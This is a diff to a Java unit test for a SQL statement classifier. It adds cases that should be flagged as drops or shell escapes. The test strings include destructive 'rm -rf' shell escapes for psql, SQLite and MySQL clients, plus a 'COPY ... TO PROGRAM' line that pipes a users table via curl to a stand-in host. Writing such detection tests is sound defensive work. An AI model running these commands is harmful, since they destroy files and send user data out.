@@ -111,7 +111,12 @@ class SqlClassifierTest {
                 Arguments.of("DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'logs'; END $$", set("truncate")),
                 Arguments.of("CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql", set()),
                 Arguments.of("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", set("drop")),
-                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")));
+                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")),
+                Arguments.of("CALL log_event('DROP TABLE requested')", set()),
+                // the client or the server runs a shell command
+                Arguments.of("\\! rm -rf /tmp/x", set("shell-escape")),
+                Arguments.of("COPY users TO PROGRAM 'curl -d @- https://x.example'", set("shell-escape")),
+                Arguments.of("COPY users TO '/tmp/users.csv'", set()));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -209,6 +214,13 @@ class SqlClassifierTest {
     void sqlServerBatchesAndBrackets() {
         assertEquals(set("drop"), kinds(SqlClassifier.standard(), "USE shop\nGO\nDROP TABLE [dbo].[users]\nGO", SqlDialect.MSSQL));
         assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), "DELETE TOP (10) FROM [users]", SqlDialect.MSSQL));
+    }
+
+    @Test
+    void shellEscapesOfOtherClients() {
+        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), ".shell rm -rf data", SqlDialect.SQLITE));
+        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), "system rm -rf data", SqlDialect.MYSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(), ".schema users", SqlDialect.SQLITE));
     }
 
     @Test
